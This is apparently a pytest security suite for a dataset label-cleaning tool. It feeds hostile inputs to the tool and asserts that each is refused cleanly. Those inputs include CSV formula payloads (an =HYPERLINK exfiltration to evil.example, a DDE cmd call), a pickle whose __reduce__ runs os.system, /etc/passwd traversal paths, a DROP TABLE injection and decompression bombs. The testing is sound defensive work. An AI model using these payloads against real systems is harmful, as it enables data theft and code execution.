"""Hostile inputs, tried as an attacker would: each one gets a clear message (one line naming the file or row on
the command line, a warning on a page), and nothing on disk changes that should not.

Invariants under attack (README "Reliability and security"):
1. no string from data is rendered as markdown or HTML (``app/ui.py``: ``plain``, ``button``, ``metric``,
   ``caption``, ``chart_text``/``safe_figure``);
2. every CSV the product writes escapes cells starting with ``= + - @ TAB CR`` (``core.files.csv_safe``);
3. no network, nor a folder outside the checkpoint, unless the user asked for pretrained weights
   (``train.model.check_model_name``);
4. one image-decode guard for every reader (``core.images.open_image``);
5. every CLI error is one line ``error: <file>[:<row>]: <reason>``, exit code 2, no traceback
   (``core.errors.run_command``); pages show no stack traces.

``bench/reliability.py`` counts the tests of this file (each parameter is one attack).
"""

from __future__ import annotations

import errno
import hashlib
import io
import json
import os
import pickle
import socket
import sqlite3
import time
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import torch
from PIL import Image
from streamlit.testing.v1 import AppTest

from core import chart_filter
from core.__main__ import main as core_main
from core.files import csv_safe, csv_unescape
from core.images import ImageProblem, load_rgb, open_image, thumbnail
from core.schema import generic_schema
from core.store import LabelStore, read_snapshot
from tests.fixtures import build_clean_competition, write_image

REPO = Path(__file__).resolve().parents[1]
APP = str(REPO / "app" / "Home.py")
PERSON = "000001_female_Asian_22"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
MARKUP = "![t](http://127.0.0.1:9/x.png)"
LINK = '<a href="http://evil.example/">x</a>'


# ---- helpers ---------------------------------------------------------------------------------------------------
def tree(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` (relative path -> content hash): 'nothing changed on disk' is equality."""
    out = {}
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink():
            out[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def one_error_line(code: int, out: str, err: str, *fragments: str) -> str:
    """Assert a refused command: exit 2, exactly one stderr line ``error: ...`` holding ``fragments``, no traceback."""
    assert code == 2, out + err
    assert "Traceback" not in out + err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    for fragment in fragments:
        assert fragment in lines[0], (fragment, lines[0])
    return lines[0]


def core(argv: list[str], capsys) -> tuple[int, str, str]:
    capsys.readouterr()
    code = core_main(argv)
    out, err = capsys.readouterr()
    return code, out, err


def train(argv: list[str], capsys) -> tuple[int, str, str]:
    from train.__main__ import main as train_main

    capsys.readouterr()
    code = train_main(argv)
    out, err = capsys.readouterr()
    return code, out, err


def csv_dataset(root: Path, labels: list[str], paths: list[str] | None = None, persons: list[str] | None = None) -> Path:
    """``root/labels.csv`` (path,label[,person]) with one small image per row."""
    paths = paths or [f"img/{i}.png" for i in range(len(labels))]
    for path in paths:
        write_image(root / path)
    frame = pd.DataFrame({"path": paths, "label": labels})
    if persons:
        frame["person"] = persons
    frame.to_csv(root / "labels.csv", index=False)
    return root / "labels.csv"


def competition_store(tmp_path: Path, n_persons: int = 2) -> tuple[Path, Path]:
    root = tmp_path / "data"
    build_clean_competition(root, n_persons=n_persons)
    db = tmp_path / "labels.db"
    with LabelStore(db) as store:
        from core.ingest import ingest

        ingest(root, store)
    return root, db


def bomb(path: Path, side: int = 9_000) -> Path:
    """A small PNG whose header says side² pixels (81 MP > the 50 MP guard): tiny on disk, gigabytes decoded."""
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("1", (side, side)).save(path, "PNG")
    return path


# ---- 2. CSV injection: every CSV the product writes --------------------------------------------------------------
@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "minus", "at"])
def test_export_escapes_formula_labels(formula: str, tmp_path: Path, capsys) -> None:
    csv = csv_dataset(tmp_path / "data", [formula, "plain", formula, "plain"])
    db = str(tmp_path / "labels.db")
    assert core(["ingest", str(csv), "--format", "csv", "--db", db], capsys)[0] == 0
    out = tmp_path / "cleaned.csv"
    assert core(["export", "--out", str(out), "--db", db], capsys)[0] == 0
    cells = [cell for line in out.read_text().splitlines() for cell in _cells(line)]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert f"'{formula}" in pd.read_csv(out, dtype=str)["label"].tolist()
    # the trainer's input (the snapshot) gets the real label back
    labels, _ = read_snapshot(LabelStore(db).snapshot().path)
    assert formula in labels["label"].tolist()


def _cells(line: str) -> list[str]:
    import csv

    return next(csv.reader([line]))


def test_export_escapes_paths_and_person_keys(tmp_path: Path, capsys) -> None:
    root = tmp_path / "data"
    csv_dataset(root, ["a", "b", "a", "b"], paths=["=cmd.png", "img/1.png", "img/2.png", "img/3.png"],
                persons=["@evil", "p1", "-p2", "p3"])
    db = str(tmp_path / "labels.db")
    assert core(["ingest", str(root / "labels.csv"), "--person-column", "person", "--db", db], capsys)[0] == 0
    out = tmp_path / "cleaned.csv"
    assert core(["export", "--out", str(out), "--db", db], capsys)[0] == 0
    table = pd.read_csv(out, dtype=str)
    assert {"'=cmd.png"} <= set(table["path"]) and {"'@evil", "'-p2"} <= set(table["person"])


@pytest.mark.parametrize("lead", ["\t", "\r", "'"], ids=["tab", "carriage-return", "apostrophe"])
def test_csv_safe_escapes_control_leads_reversibly(lead: str) -> None:
    frame = pd.DataFrame({"text": [f"{lead}=1+1", "ok"], "number": [-1, 2]})
    safe = csv_safe(frame)
    assert safe["text"][0] == f"'{lead}=1+1" and safe["number"][0] == -1  # numbers are numbers, not formulas
    assert csv_unescape(safe.copy())["text"].tolist() == frame["text"].tolist()


def test_runs_csv_and_issues_csv_escape_formulas(tmp_path: Path, capsys) -> None:
    from app import journal_views as jv

    text = jv.csv_bytes(pd.DataFrame({"note": ["=1+1"], "id": [1]})).decode()
    assert "'=1+1" in text
    np.save(tmp_path / "labels.npy", np.array([0, 1, 0, 1]))
    np.save(tmp_path / "probs.npy", np.array([[0.9, 0.1], [0.2, 0.8], [0.1, 0.9], [0.5, 0.5]]))
    np.save(tmp_path / "groups.npy", np.array(["=A1", "=A1", "@b", "@b"]))
    code, _, _ = core(["issues", "--labels", str(tmp_path / "labels.npy"), "--pred-probs", str(tmp_path / "probs.npy"),
                       "--groups", str(tmp_path / "groups.npy"), "--out", str(tmp_path / "issues.csv")], capsys)
    assert code == 0
    assert not any(c.startswith(("=", "@")) for line in (tmp_path / "issues.csv").read_text().splitlines()
                   for c in _cells(line))


# ---- 1. data strings never become markup -------------------------------------------------------------------------
def test_widget_helpers_render_data_literally() -> None:
    def page() -> None:
        import streamlit as st

        from app import ui

        hostile = "![t](http://127.0.0.1:9/x.png) **b** :red[x] $x$ <img src=x>"
        ui.button(f"1: {hostile}", key="b")
        ui.metric(st, f"Current {hostile}", hostile)
        ui.caption(hostile)

    at = AppTest.from_function(page).run()
    assert not at.exception
    shown = [at.button[0].label, at.metric[0].label, at.metric[0].value, at.caption[0].value]
    for text in shown:
        assert "http" in text and not _live_markup(text), text


def _live_markup(text: str) -> list[str]:
    """Markdown/HTML characters in ``text`` that are not backslash-escaped (what a renderer would act on)."""
    import re

    return re.findall(r"(?<!\\)[!\[\]()<>*_`$:|~#]", text)


def test_review_buttons_escape_class_names() -> None:
    def page() -> None:
        import streamlit as st

        from app import actions
        from core.schema import generic_schema

        st.session_state["annotator"] = "eve"
        schema = generic_schema({"label": ["![t](http://127.0.0.1:9/x.png)", "<a href='http://e/'>x</a>"]})
        actions.unit_actions(schema, {"target": "img/0.png", "attribute": "label", "scored": "label",
                                      "shown": "<a href='http://e/'>x</a>", "suggested": "![t](http://127.0.0.1:9/x.png)"},
                             key="k", source="review", on_next=lambda: None, on_previous=lambda: None, score_run=1)

    at = AppTest.from_function(page).run()
    assert not at.exception
    labels = [b.label for b in at.button]
    assert any("http" in label for label in labels)  # the class names are there ...
    assert not any(_live_markup(label) for label in labels), labels  # ... as literal text


def test_plotly_category_names_are_html_escaped(tmp_path: Path) -> None:
    from app import charts, train_charts

    schema = generic_schema({"label": [LINK, MARKUP]})
    store = LabelStore(tmp_path / "labels.db")
    items = pd.DataFrame([{"path": f"img/{i}.png", "person": f"img/{i}.png", "split": "train", "width": 4, "height": 4,
                           "bytes": 1, "hash": str(i), "source_id": None, "label": (LINK, MARKUP)[i % 2]}
                          for i in range(4)])
    persons = pd.DataFrame({"person": items["person"], "source_id": None, "info": "{}"})
    store.ingest(root=tmp_path, schema=schema, dataset_format="csv", persons=persons, items=items, problems=[])
    figures = [figure for figure, _ in charts.build_all(store).figures.values()]
    figures.append(train_charts.confusion(pd.DataFrame([[1, 0], [0, 1]], index=[LINK, MARKUP], columns=[LINK, MARKUP]),
                                          "label"))
    figures.append(charts.probabilities({LINK: 0.5, MARKUP: 0.5}))
    texts = [json.dumps(figure.to_plotly_json()["data"], default=str) for figure in figures]
    assert not any("<a href" in text for text in texts)
    assert sum("&lt;a href" in text for text in texts) >= 4  # classes, the target, confusion, probabilities


@pytest.mark.parametrize("text", [
    "not json", "[]", '{"labels": "x"}', '{"labels": {"nope": "a"}}', '{"labels": {"mask": "sideways"}}',
    '{"ranges": {"age": [5]}}', '{"ranges": {"age": ["a", "b"]}}', '{"ranges": {"gender": [1, 2]}}',
    '{"corrected": "drop table"}', '{"original": "yes"}', '{"labels": {"age_group": 99}}', "{" * 20_000,
    '{"labels": {"gender": [{"$gt": ""}]}}', '{"labels": {"age": ["1e400"]}}'],
    ids=lambda t: t[:24])
def test_malformed_chart_filter_is_ignored_with_a_reason(text: str) -> None:
    from core.schema import COMPETITION

    selection, ignored = chart_filter.parse_chart_filter(text, COMPETITION)
    assert ignored and selection.get("labels", {}) == {} and "ranges" not in selection


def test_browse_page_with_a_hostile_filter_warns_and_shows_no_traceback(tmp_path: Path, monkeypatch) -> None:
    _, db = competition_store(tmp_path)
    monkeypatch.setenv("LABELS_DB", str(db))
    monkeypatch.setenv("LABELS_AUTO_DEMO", "0")
    for text in ('{"labels": {"mask": ["wear", "sideways"]}, "evil": 1}', '{"ranges": {"age": [1]}}', "%%%"):
        at = AppTest.from_file(APP, default_timeout=60)
        at.query_params["filter"] = text
        at.switch_page("app_pages/browse.py").run()
        assert not at.exception, [e.value for e in at.exception]
        assert any("Ignored part of the link's filter" in w.value for w in at.warning)


def test_pages_never_show_tracebacks_and_refuse_a_network_bind(tmp_path: Path, monkeypatch) -> None:
    from streamlit import config

    for folder in (REPO / ".streamlit", REPO / "app" / ".streamlit"):
        text = (folder / "config.toml").read_text()
        assert 'address = "127.0.0.1"' in text and 'showErrorDetails = "none"' in text
    monkeypatch.setenv("LABELS_DB", str(tmp_path / "labels.db"))
    monkeypatch.setenv("LABELS_AUTO_DEMO", "0")
    monkeypatch.delenv("LABELFIX_ALLOW_REMOTE", raising=False)
    before = config.get_option("server.address")
    try:
        config.set_option("server.address", "0.0.0.0")
        at = AppTest.from_file(APP, default_timeout=60).run()
        assert any("refuses to run" in e.value for e in at.error)
        assert config.get_option("client.showErrorDetails") == "none"
        assert not (tmp_path / "labels.db").exists()  # refused before the store is opened
        monkeypatch.setenv("LABELFIX_ALLOW_REMOTE", "1")
        at = AppTest.from_file(APP, default_timeout=60).run()
        assert not any("refuses to run" in e.value for e in at.error)
    finally:
        config.set_option("server.address", before)


# ---- 3. no network from untrusted model names ---------------------------------------------------------------------
def _checkpoint(path: Path, **meta_changes: object) -> Path:
    from train.checkpoint import write_checkpoint
    from train.model import Head, HeadsModel

    model = HeadsModel("test_resnet", [Head("label", ("a", "b"))])
    meta = {"model": "test_resnet", "heads": [{"name": "label", "classes": ["a", "b"]}], "image_size": [32, 32],
            "mean": [0.5, 0.5, 0.5], "std": [0.5, 0.5, 0.5], "drop_rate": 0.0}
    meta.update(meta_changes)
    return write_checkpoint(path, model.state_dict(), {k: v for k, v in meta.items() if v is not None})


@pytest.fixture
def no_network(monkeypatch) -> list[str]:
    """Record (and block) every network connection and every timm model creation."""
    import timm

    attempts: list[str] = []

    def refuse(*args, **kwargs):
        attempts.append(f"connect {args[1:] or kwargs}")
        raise OSError("network blocked by the test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", lambda *a, **k: refuse(None, *a))
    real = timm.create_model

    def create(name, *args, **kwargs):
        if ":" in str(name):
            attempts.append(f"create_model {name}")
        return real(name, *args, **kwargs)

    monkeypatch.setattr(timm, "create_model", create)
    return attempts


@pytest.mark.parametrize("name", ["hf-hub:owner/name", "hf_hub:owner/name", "local-dir:/etc", "HF-HUB:owner/x",
                                  "timm/resnet18.a1_in1k", "no_such_net"])
def test_checkpoint_model_name_never_reaches_the_hub(name: str, tmp_path: Path, no_network: list[str]) -> None:
    from train.checkpoint import CheckpointError, load_model

    path = _checkpoint(tmp_path / "evil.safetensors", model=name)
    before = tree(tmp_path)
    with pytest.raises(CheckpointError) as raised:
        load_model(path)
    assert str(path) in str(raised.value) and "\n" not in str(raised.value)
    assert no_network == [] and tree(tmp_path) == before


def test_model_names_gate(no_network: list[str]) -> None:
    from train.model import ModelNameRefused, check_model_name

    assert check_model_name("resnet18d") == "resnet18d"
    assert check_model_name("hf-hub:timm/resnet18.a1_in1k", allow_hub=True)  # only with a pretrained request
    for bad in ("hf-hub:timm/resnet18.a1_in1k", "local-dir:/tmp", "", None, 3, "x" * 10_000):
        with pytest.raises(ModelNameRefused):
            check_model_name(bad)
    assert no_network == []


@pytest.mark.parametrize("model", ["hf-hub:owner/name", "local-dir:/etc", "no_such_net"])
def test_fit_refuses_an_untrusted_model_name_before_writing(model: str, tmp_path: Path, capsys,
                                                            no_network: list[str]) -> None:
    _, db = competition_store(tmp_path)
    before = tree(tmp_path)
    code, out, err = train(["fit", "--model", model, "--db", str(db), "--quiet"], capsys)
    one_error_line(code, out, err, model)
    assert no_network == [] and tree(tmp_path) == before
    assert LabelStore(db).runs().empty


# ---- checkpoints and weights files -----------------------------------------------------------------------------
def _truncate(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _lying_header(path: Path) -> None:
    data = bytearray(path.read_bytes())
    length = int.from_bytes(data[:8], "little")
    data[:8] = (length + 40).to_bytes(8, "little")  # inside the file, but past the JSON's end
    path.write_bytes(bytes(data))


def _huge_header(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[:8] = (2**62).to_bytes(8, "little")
    path.write_bytes(bytes(data))


CHECKPOINT_DAMAGE: dict[str, tuple[Callable[[Path], object], str]] = {
    "truncated": (_truncate, "damaged"),
    "header-length-lies": (_lying_header, "damaged"),
    "header-length-huge": (_huge_header, "not a safetensors checkpoint"),
    "pickle-renamed": (lambda p: p.write_bytes(pickle.dumps({"a": 1})), "pickle"),
    "empty-file": (lambda p: p.write_bytes(b""), "not a safetensors checkpoint"),
    "heads-not-a-list": (lambda p: _checkpoint(p, heads="label"), "heads"),
    "classes-not-text": (lambda p: _checkpoint(p, heads=[{"name": "label", "classes": [1, 2]}]), "heads"),
    "model-not-text": (lambda p: _checkpoint(p, model=7), "model"),
    "no-heads-key": (lambda p: _checkpoint(p, heads=None), "heads"),
    "image-size-wrong": (lambda p: _checkpoint(p, image_size="big"), "image_size"),
    "drop-rate-wrong": (lambda p: _checkpoint(p, drop_rate="x"), "drop_rate"),
    "weights-of-another-model": (lambda p: _checkpoint(p, heads=[{"name": "label", "classes": ["a", "b", "c"]}]),
                                 "do not fit"),
}


@pytest.mark.parametrize("damage", list(CHECKPOINT_DAMAGE), ids=list(CHECKPOINT_DAMAGE))
def test_damaged_checkpoint_is_one_line(damage: str, tmp_path: Path, no_network: list[str]) -> None:
    from train.checkpoint import CheckpointError, load_model

    path = _checkpoint(tmp_path / "ckpt.safetensors")
    writer, fragment = CHECKPOINT_DAMAGE[damage]
    writer(path)
    before = tree(tmp_path)
    with pytest.raises(CheckpointError) as raised:
        load_model(path)
    message = str(raised.value)
    assert str(path) in message and fragment in message and "\n" not in message, message
    assert tree(tmp_path) == before and no_network == []


def test_predict_with_a_damaged_checkpoint_is_one_cli_line(tmp_path: Path, capsys) -> None:
    _, db = competition_store(tmp_path)
    path = _checkpoint(tmp_path / "ckpt.safetensors")
    _truncate(path)
    before = tree(tmp_path)
    code, out, err = train(["predict", "--checkpoint", str(path), "--db", str(db), "--out",
                            str(tmp_path / "sub.csv")], capsys)
    one_error_line(code, out, err, "ckpt.safetensors", "damaged")
    assert tree(tmp_path) == before


class _Payload:
    def __reduce__(self):
        return (os.system, (f"touch {os.environ.get('ATTACK_MARKER', '/tmp/never')}",))


@pytest.mark.parametrize("kind", ["pickle-with-code", "pth-with-objects", "text-file", "no-tensors"])
def test_pretrained_file_that_is_not_weights_is_refused_before_writing(kind: str, tmp_path: Path, capsys,
                                                                       monkeypatch) -> None:
    _, db = competition_store(tmp_path)
    marker = tmp_path / "pwned"
    monkeypatch.setenv("ATTACK_MARKER", str(marker))
    path = tmp_path / "weights.pth"
    if kind == "pickle-with-code":
        path.write_bytes(pickle.dumps(_Payload()))
    elif kind == "pth-with-objects":
        torch.save({"state_dict": {"w": torch.zeros(2)}, "extra": _Payload()}, path)
    elif kind == "text-file":
        path.write_text("these are not weights\n")
    else:
        torch.save({"lr": 0.1}, path)
    before = tree(tmp_path)
    code, out, err = train(["fit", "--pretrained-file", str(path), "--db", str(db), "--quiet"], capsys)
    one_error_line(code, out, err, "weights.pth")
    assert not marker.exists()  # no pickled code ran
    assert tree(tmp_path) == before and LabelStore(db).runs().empty


def test_runs_kind_all_after_a_predict_run(tmp_path: Path, capsys) -> None:
    _, db = competition_store(tmp_path)
    with LabelStore(db) as store:
        store.create_run("predict", {"checkpoints": [], "out": "x.csv"}, status="done")
        store.create_run("train", {"model": "test_resnet", "epochs": 1}, status="failed")
    code, out, err = train(["runs", "--kind", "all", "--db", str(db)], capsys)
    assert code == 0 and "Traceback" not in err and "predict" in out


# ---- 4. one decode guard for every reader ------------------------------------------------------------------------
def test_bomb_swapped_in_after_ingest_is_refused_by_every_reader(tmp_path: Path) -> None:
    from core.checks import measure_items

    root, db = competition_store(tmp_path)
    relative = f"train/images/{PERSON}/mask1.jpg"
    bomb(root / relative)
    store = LabelStore(db)
    started = time.perf_counter()
    for read in (lambda: thumbnail(store, relative, 160), lambda: load_rgb(root / relative, (32, 32)),
                 lambda: open_image(root / relative).__enter__()):
        with pytest.raises(ImageProblem, match="too large"):
            read()
    facts = measure_items(store, store.items().query("path == @relative"), size=(32, 32))
    assert "too large" in facts["error"].iloc[0]
    assert time.perf_counter() - started < 5  # refused from the header, never decoded (decoding takes seconds)
    assert not list((store.files_dir / "thumbs").glob("*")) if (store.files_dir / "thumbs").exists() else True


def test_fit_on_a_bomb_swapped_in_after_ingest_is_one_line(tmp_path: Path, capsys) -> None:
    root, db = competition_store(tmp_path, n_persons=4)
    bomb(root / "train" / "images" / PERSON / "mask1.jpg")
    code, out, err = train(["fit", "--epochs", "1", "--img-size", "16", "16", "--val-folds", "2", "--db", str(db),
                            "--quiet"], capsys)
    one_error_line(code, out, err, "mask1.jpg", "too large")
    assert LabelStore(db).runs()["status"].tolist() == ["failed"]


# ---- 5. one clear line for every bad file ----------------------------------------------------------------------
def test_store_that_is_not_sqlite(tmp_path: Path, capsys) -> None:
    db = tmp_path / "labels.db"
    db.write_text("id,label\n1,cat\n")
    before = tree(tmp_path)
    one_error_line(*core(["status", "--db", str(db)], capsys), "labels.db", "not a labelfix label store")
    assert tree(tmp_path) == before


def test_store_that_is_a_folder(tmp_path: Path, capsys) -> None:
    (tmp_path / "labels.db").mkdir()
    one_error_line(*core(["status", "--db", str(tmp_path / "labels.db")], capsys), "labels.db", "folder")


def test_read_only_store(tmp_path: Path, capsys, monkeypatch) -> None:
    _, db = competition_store(tmp_path)
    before = tree(tmp_path)
    connect = sqlite3.connect  # the tests run as root, where chmod does not stop writes: SQLite's own read-only mode
    monkeypatch.setattr("core.store.base.sqlite3.connect",
                        lambda path, **kw: connect(f"file:{path}?mode=ro", uri=True, **kw))
    code, out, err = core(["correct", PERSON, "gender", "male", "--annotator", "eve", "--db", str(db)], capsys)
    one_error_line(code, out, err, "labels.db", "read-only")
    monkeypatch.undo()
    assert LabelStore(db).n_corrections() == 0
    assert {k: v for k, v in tree(tmp_path).items() if "labels.db" not in k} == \
        {k: v for k, v in before.items() if "labels.db" not in k}


def test_disk_full_during_a_correction(tmp_path: Path, capsys, monkeypatch) -> None:
    _, db = competition_store(tmp_path)
    init = LabelStore.__init__

    def full(self, *args, **kwargs):
        init(self, *args, **kwargs)
        pages = self.conn.execute("PRAGMA page_count").fetchone()[0]
        self.conn.execute(f"PRAGMA max_page_count = {pages}")  # SQLite's own 'database or disk is full'

    monkeypatch.setattr(LabelStore, "__init__", full)
    code, out, err = core(["import", str(_big_import(tmp_path)), "--annotator", "eve", "--db", str(db)], capsys)
    one_error_line(code, out, err, "labels.db", "disk full")
    monkeypatch.undo()
    assert LabelStore(db).n_corrections() == 0


def _big_import(tmp_path: Path) -> Path:
    path = tmp_path / "fixes.csv"
    path.write_text("target,attribute,value,reason\n" + f"{PERSON},gender,male,{'x' * 200_000}\n")
    return path


@pytest.mark.parametrize("command", ["export", "snapshot"])
def test_disk_full_while_writing_a_file(command: str, tmp_path: Path, capsys, monkeypatch) -> None:
    _, db = competition_store(tmp_path)
    before = tree(tmp_path)

    def full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", str(self))

    monkeypatch.setattr(Path, "write_bytes", full)
    monkeypatch.setattr(pd.DataFrame, "to_csv", lambda self, target=None, *a, **k: full(target))
    argv = ["export", "--out", str(tmp_path / "out" / "cleaned.csv")] if command == "export" else ["snapshot"]
    code, out, err = core([*argv, "--db", str(db)], capsys)
    one_error_line(code, out, err, "disk full")
    monkeypatch.undo()
    leftovers = [k for k in tree(tmp_path) if k not in before and "labels.db" not in k]
    assert not [k for k in leftovers if k.endswith((".csv", ".tmp"))], leftovers


def test_read_only_output_folder(tmp_path: Path, capsys, monkeypatch) -> None:
    _, db = competition_store(tmp_path)

    def denied(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied", str(tmp_path / "ro" / "cleaned.csv"))

    monkeypatch.setattr("core.files.os.replace", denied)
    code, out, err = core(["export", "--out", str(tmp_path / "ro" / "cleaned.csv"), "--db", str(db)], capsys)
    one_error_line(code, out, err, "cleaned.csv", "read-only")
    assert not (tmp_path / "ro" / "cleaned.csv").exists()


def test_csv_whose_every_path_is_missing_says_so_fast(tmp_path: Path, capsys) -> None:
    rows = 20_000
    csv = tmp_path / "data" / "labels.csv"
    csv.parent.mkdir()
    csv.write_text("path,label\n" + "".join(f"img/{i}.png,{'ab'[i % 2]}\n" for i in range(rows)))
    db = tmp_path / "labels.db"
    started = time.perf_counter()
    line = one_error_line(*core(["ingest", str(csv), "--db", str(db)], capsys), "labels.csv",
                          f"none of the {rows} row(s) names an image file", "img/0.png")
    assert "label column" not in line
    assert time.perf_counter() - started < 20
    assert not db.exists()  # a failed first ingest leaves no store behind


def test_failed_ingest_leaves_no_store_file(tmp_path: Path, capsys) -> None:
    (tmp_path / "empty").mkdir()
    db = tmp_path / "new" / "labels.db"
    one_error_line(*core(["ingest", str(tmp_path / "empty"), "--db", str(db)], capsys), "empty")
    assert not db.exists() and not list(db.parent.glob("labels.db*"))


def _bad_name(directory: Path, suffix: bytes = b".png") -> bytes:
    name = os.fsencode(directory) + b"/caf\xe9" + suffix  # latin-1 bytes: not valid UTF-8
    with open(name, "wb") as handle:
        image = io.BytesIO()
        Image.new("RGB", (8, 8)).save(image, "PNG")
        handle.write(image.getvalue())
    return name


@pytest.mark.parametrize("where", ["class-folder-file", "class-folder-name", "person-folder", "images-listing"])
def test_non_utf8_file_name_is_one_problem(where: str, tmp_path: Path, capsys) -> None:
    root = tmp_path / "data"
    if where.startswith("class"):
        for name in ("cat/a.png", "cat/b.png", "dog/a.png"):
            write_image(root / name)
        if where == "class-folder-file":
            _bad_name(root / "cat")
        else:
            folder = os.fsencode(root) + b"/\xffbad"
            os.mkdir(folder)
            _bad_name(Path(os.fsdecode(folder)))
    else:
        build_clean_competition(root, n_persons=2)
        _bad_name(root / "train" / "images" / (PERSON if where == "person-folder" else ""))
    db = tmp_path / "labels.db"
    code, out, err = core(["ingest", str(root), "--db", str(db)], capsys)
    assert code == 0, err
    named = [line for line in out.splitlines() if "not valid UTF-8" in line]
    assert len(named) == 1 and ("\\udce9" in named[0] or "\\udcff" in named[0]), out
    with LabelStore(db) as store:
        assert store.problems()["reason"].str.contains("not valid UTF-8").sum() == 1
        assert len(store.current_labels()) >= 3


def test_error_lines_are_physical_lines_with_multiline_fields(tmp_path: Path, capsys) -> None:
    root = tmp_path / "data"
    for i in range(3):
        write_image(root / f"img/{i}.png")
    (root / "labels.csv").write_text('path,label,note\nimg/0.png,a,"two\nlines"\n\nimg/1.png,b,x\nimg/2.png,,x\n')
    db = tmp_path / "labels.db"
    code, out, _ = core(["ingest", str(root / "labels.csv"), "--db", str(db)], capsys)
    assert code == 0
    assert "img/2.png: line 6: empty label" in out, out


def test_import_error_lines_are_physical_lines(tmp_path: Path, capsys) -> None:
    _, db = competition_store(tmp_path)
    fixes = tmp_path / "fixes.csv"
    fixes.write_text(f'target,attribute,value,reason\n{PERSON},gender,male,"a\nlong\nreason"\nnobody,gender,male,x\n')
    code, out, err = core(["import", str(fixes), "--db", str(db)], capsys)
    assert code == 2 and "line 5: unknown person 'nobody'" in err and "Traceback" not in err
    assert LabelStore(db).n_corrections() == 0


# ---- symlinks leaving the root ------------------------------------------------------------------------------------
def test_class_folder_symlink_out_of_the_root_is_not_walked(tmp_path: Path, capsys) -> None:
    root = tmp_path / "data"
    for name in ("cat/a.png", "cat/b.png", "dog/a.png"):
        write_image(root / name)
    outside = tmp_path / "system"
    for i in range(50):
        (outside / f"bin{i}").parent.mkdir(parents=True, exist_ok=True)
        (outside / f"bin{i}").write_text("x")
    write_image(outside / "secret.png")
    (root / "etc").symlink_to(outside, target_is_directory=True)
    db = tmp_path / "labels.db"
    code, out, _ = core(["ingest", str(root), "--db", str(db)], capsys)
    assert code == 0
    with LabelStore(db) as store:
        problems = store.problems()
        assert problems["path"].tolist() == ["etc"] and "outside" in problems["reason"].iloc[0]
        assert not store.items()["path"].str.contains("secret|bin", regex=True).any()


@pytest.mark.parametrize("folder", ["train/images", "eval/images"])
def test_layout_folder_symlink_out_of_the_root(folder: str, tmp_path: Path, capsys) -> None:
    root = tmp_path / "data"
    build_clean_competition(root, n_persons=2)
    moved = tmp_path / "elsewhere"
    (root / folder).rename(moved)
    (root / folder).symlink_to(moved, target_is_directory=True)
    db = tmp_path / "labels.db"
    one_error_line(*core(["ingest", str(root), "--db", str(db)], capsys), folder, "outside")
    assert not db.exists()


# ---- own attacks --------------------------------------------------------------------------------------------------
def test_file_name_with_a_newline_stays_one_line(tmp_path: Path, capsys) -> None:
    root = tmp_path / "data"
    for name in ("cat/a.png", "cat/b.png", "dog/a.png"):
        write_image(root / name)
    (root / "dog" / "evil\nerror: fake.txt").write_text("x")
    code, out, _ = core(["ingest", str(root), "--db", str(tmp_path / "labels.db")], capsys)
    assert code == 0
    assert not any(line.startswith("error: fake") for line in out.splitlines())
    assert any("evil\\x0aerror: fake.txt" in line for line in out.splitlines()), out


@pytest.mark.parametrize("target", ["../../etc/passwd", "/etc/passwd", "train/images/\x00x.jpg"])
def test_thumbnail_of_a_path_leaving_the_root(target: str, tmp_path: Path) -> None:
    _, db = competition_store(tmp_path)
    with pytest.raises(ValueError):
        thumbnail(LabelStore(db), target)


def test_unknown_exception_is_one_line_and_debug_shows_the_traceback(tmp_path: Path, capsys, monkeypatch) -> None:
    import core.__main__ as cli

    def boom(args):
        raise RuntimeError("something broke\nsecond line")

    monkeypatch.setattr(cli, "cmd_status", boom)
    parser = cli.build_parser
    monkeypatch.setattr(cli, "build_parser", lambda: _with(parser(), boom))
    one_error_line(*core(["status", "--db", str(tmp_path / "x.db")], capsys), "RuntimeError: something broke",
                   "LABELFIX_DEBUG")
    monkeypatch.setenv("LABELFIX_DEBUG", "1")
    with pytest.raises(RuntimeError):
        core_main(["status", "--db", str(tmp_path / "x.db")])


def _with(parser, func):
    parser.set_defaults(func=func)
    for action in parser._subparsers._group_actions:
        for sub in action.choices.values():
            sub.set_defaults(func=func)
    return parser


def test_utf16_labels_csv_is_one_line(tmp_path: Path, capsys) -> None:
    csv = tmp_path / "labels.csv"
    csv.write_bytes("path,label\nimg/0.png,a\n".encode("utf-16"))
    one_error_line(*core(["ingest", str(csv), "--db", str(tmp_path / "labels.db")], capsys), "labels.csv", "UTF-8")


def test_label_column_name_injection_is_refused(tmp_path: Path, capsys) -> None:
    root = tmp_path / "data"
    write_image(root / "img/0.png")
    write_image(root / "img/1.png")
    (root / "labels.csv").write_text('path,"a"") TEXT); DROP TABLE items; --"\nimg/0.png,x\nimg/1.png,y\n')
    one_error_line(*core(["ingest", str(root / "labels.csv"), "--db", str(tmp_path / "labels.db")], capsys),
                   "labels.csv", "cannot be a label column name")


def test_corrections_csv_with_a_formula_reason_is_stored_as_text(tmp_path: Path, capsys) -> None:
    _, db = competition_store(tmp_path)
    fixes = tmp_path / "fixes.csv"
    fixes.write_text(f'target,attribute,value,reason\n{PERSON},gender,male,"=HYPERLINK(""http://e/"")"\n')
    assert core(["import", str(fixes), "--db", str(db)], capsys)[0] == 0
    out = tmp_path / "cleaned.csv"
    assert core(["export", "--out", str(out), "--db", str(db)], capsys)[0] == 0
    with LabelStore(db) as store:
        assert store.history()["reason"].iloc[0].startswith("=HYPERLINK")  # kept as typed, shown in data widgets


def test_attack_corpus_is_large_enough() -> None:
    import sys

    module = sys.modules[__name__]
    tests = [getattr(module, n) for n in dir(module) if n.startswith("test_")]
    def cases(test) -> int:
